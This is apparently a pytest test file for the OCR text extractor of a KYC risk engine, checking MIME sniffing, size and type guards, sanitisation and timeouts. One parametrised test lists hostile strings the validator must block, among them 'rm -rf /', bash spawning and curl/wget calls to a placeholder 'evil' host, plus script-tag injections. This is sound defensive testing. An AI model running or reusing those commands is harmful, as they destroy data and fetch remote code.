import cv2
import fitz
import numpy as np
import pytest
import pytesseract

from kyc_risk_engine.errors import CollaboratorTimeoutError, DocumentProcessingError
from kyc_risk_engine.tools import ocr
from kyc_risk_engine.tools.ocr import OcrTextExtractor, detect_mime, validate_ocr_text_safety


# -------- Helpers --------
def _png_bytes(w=60, h=40) -> bytes:
    """A valid small white PNG encoded with OpenCV."""
    img = np.full((h, w, 3), 255, dtype=np.uint8)
    ok, buf = cv2.imencode(".png", img)
    assert ok, "Failed to encode test PNG image"
    return buf.tobytes()


def _pdf_bytes() -> bytes:
    doc = fitz.open()
    page = doc.new_page(width=200, height=100)
    page.insert_text((20, 50), "PASSPORT")
    data = doc.tobytes()
    doc.close()
    return data


@pytest.fixture
def fake_tesseract(monkeypatch):
    seen = []

    def _image_to_string(image, **kwargs):
        seen.append(image.size)
        return "  NAME:   JANE DOE \n\x00DOB: 1990-04-12  "

    monkeypatch.setattr(ocr.pytesseract, "image_to_string", _image_to_string)
    return seen


# -------- validate_ocr_text_safety --------
@pytest.mark.parametrize("bad", [
    "<script>alert(1)</script>",
    "os.system('rm -rf /')",
    "subprocess.Popen('bash')",
    "eval('1+1')",
    "wget http://evil",
    "curl http://evil",
    "import os",
])
def test_validate_ocr_text_safety_blocks_malicious(bad):
    with pytest.raises(DocumentProcessingError):
        validate_ocr_text_safety(bad)


def test_validate_ocr_text_safety_sanitizes_control_and_spaces():
    assert validate_ocr_text_safety("  A\x00B   C \nD  ") == "AB C \nD"


# -------- mime sniffing --------
def test_detect_mime():
    assert detect_mime(_png_bytes()) == "image/png"
    assert detect_mime(_pdf_bytes()) == "application/pdf"
    assert detect_mime(b"just some text") == "application/octet-stream"


# -------- extractor guards --------
def test_empty_document_rejected():
    with pytest.raises(DocumentProcessingError, match="Empty"):
        OcrTextExtractor().extract_text(b"")


def test_oversized_document_rejected():
    with pytest.raises(DocumentProcessingError, match="too large"):
        OcrTextExtractor(max_file_size_mb=0.0001).extract_text(_png_bytes(400, 400) + b"\x00" * 2048)


def test_unsupported_type_rejected():
    with pytest.raises(DocumentProcessingError, match="Unsupported file type"):
        OcrTextExtractor().extract_text(b"plain text pretending to be a passport")


def test_corrupted_image_rejected():
    data = _png_bytes()[:40]
    with pytest.raises(DocumentProcessingError):
        OcrTextExtractor().extract_text(data)


# -------- extraction --------
def test_png_extraction_is_sanitized(fake_tesseract):
    text = OcrTextExtractor().extract_text(_png_bytes())
    assert text == "NAME: JANE DOE \nDOB: 1990-04-12"
    assert fake_tesseract == [(60, 40)]


def test_pdf_first_page_is_rendered(fake_tesseract):
    text = OcrTextExtractor().extract_text(_pdf_bytes())
    assert "JANE DOE" in text
    # rendered at 2x zoom
    assert fake_tesseract == [(400, 200)]


def test_missing_tesseract_becomes_processing_error(monkeypatch):
    def _missing(image, **kwargs):
        raise pytesseract.TesseractNotFoundError()

    monkeypatch.setattr(ocr.pytesseract, "image_to_string", _missing)
    with pytest.raises(DocumentProcessingError, match="OCR failed"):
        OcrTextExtractor().extract_text(_png_bytes())


def test_malicious_ocr_output_is_refused(monkeypatch):
    monkeypatch.setattr(ocr.pytesseract, "image_to_string", lambda image, **kwargs: "<script>steal()</script>")
    with pytest.raises(DocumentProcessingError, match="Malicious"):
        OcrTextExtractor().extract_text(_png_bytes())


def test_tesseract_gets_a_timeout(monkeypatch):
    seen = {}

    def _image_to_string(image, **kwargs):
        seen.update(kwargs)
        return "JANE DOE"

    monkeypatch.setattr(ocr.pytesseract, "image_to_string", _image_to_string)
    OcrTextExtractor().extract_text(_png_bytes())
    assert seen["timeout"] == ocr.OCR_TIMEOUT_SECONDS


def test_tesseract_timeout_becomes_collaborator_timeout(monkeypatch):
    def _hung(image, **kwargs):
        raise RuntimeError("Tesseract process timeout")

    monkeypatch.setattr(ocr.pytesseract, "image_to_string", _hung)
    with pytest.raises(CollaboratorTimeoutError):
        OcrTextExtractor().extract_text(_png_bytes())


def test_tesseract_error_is_not_a_timeout(monkeypatch):
    def _broken(image, **kwargs):
        raise pytesseract.TesseractError(1, "bad image")

    monkeypatch.setattr(ocr.pytesseract, "image_to_string", _broken)
    with pytest.raises(DocumentProcessingError, match="OCR failed"):
        OcrTextExtractor().extract_text(_png_bytes())
